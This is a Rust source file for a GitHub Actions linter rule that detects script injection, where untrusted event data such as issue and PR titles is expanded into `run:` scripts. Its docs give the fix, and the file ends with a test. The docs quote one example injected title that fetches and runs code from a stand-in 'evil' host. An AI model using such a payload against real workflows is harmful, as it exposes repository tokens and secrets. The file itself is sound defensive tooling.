//! BW003: untrusted event data expanded into run scripts.

use crate::audit::rule::{Check, FileKind, Rule, Sink};
use crate::audit::workflow::Workflow;
use crate::report::Severity;

pub static RULE: Rule = Rule {
    code: "BW003",
    name: "script-injection",
    kind: FileKind::Workflow,
    severity: Severity::High,
    summary: "A `run:` script expands attacker-controlled event data (`${{ github.event.issue.title }}`...).",
    fix: "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script.",
    docs: r#"## What it does
Flags `${{ … }}` expressions in `run:` (and `actions/github-script` `script:`) that read attacker-controlled context: issue, PR, comment, review, discussion, commit and page titles and bodies, head refs, author names and emails, `github.head_ref`. Whitespace and newlines inside `${{ }}` are tolerated (checkov #7235 missed them).

## Why is this bad?
Expressions are pasted into the script before the shell runs: a PR titled `"; curl evil | sh; echo "` runs with the workflow's token and secrets.

## Example
```yaml
steps:
  - run: echo "${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
steps:
  - env:
      TITLE: ${{ github.event.pull_request.title }}
    run: echo "$TITLE"
```

## References
- GitHub docs: security hardening, "Understanding the risk of script injections"
- checkov CKV_GHA_2
"#,
    opt_in: false,
    check: Check::Workflow(check),
};

const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    ".title",
    ".body",
    ".head_ref",
    ".label",
    ".message",
    ".name",
    ".email",
    ".default_branch",
    ".page_name",
    ".ref_name",
];

/// Untrusted expressions in a script: (offset, expression).
pub fn untrusted_expressions(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = text[from..].find("${{") {
        let start = from + i;
        let Some(end) = text[start..].find("}}") else { break };
        let expression: String = text[start + 3..start + end].split_whitespace().collect::<Vec<_>>().join("");
        let lower = expression.to_ascii_lowercase();
        let event_data = lower.contains("github.event.") || lower.starts_with("github.head_ref");
        if event_data && UNTRUSTED.iter().any(|u| lower.contains(u)) {
            out.push((start, expression));
        }
        from = start + end + 2;
    }
    out
}

fn check(workflow: &Workflow, sink: &mut Sink) {
    for step in workflow.steps() {
        if let Some(run) = step.run() {
            for (offset, expression) in untrusted_expressions(run.text) {
                sink.scoped(
                    run.line_of(offset),
                    1,
                    step.job,
                    format!("`${{{{ {expression} }}}}` is pasted into the script: an attacker controls it"),
                );
            }
        }
        if let Some(script) = step
            .with("script")
            .filter(|_| step.uses().and_then(|u| u.as_str()).is_some_and(|u| u.starts_with("actions/github-script")))
        {
            for (_, expression) in untrusted_expressions(script.as_str().unwrap_or("")) {
                sink.scoped(
                    script.line,
                    script.col,
                    step.job,
                    format!("`${{{{ {expression} }}}}` is pasted into the script: an attacker controls it"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::testing::lines;

    #[test]
    fn flags_untrusted_expressions() {
        let text = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: |\n          echo ok\n          echo \"${{\n            github.event.pull_request.title }}\"\n      - run: echo ${{ github.sha }}\n      - env:\n          T: ${{ github.event.issue.body }}\n        run: echo \"$T\"\n";
        assert_eq!(lines(&RULE, text), [7]);
    }
}
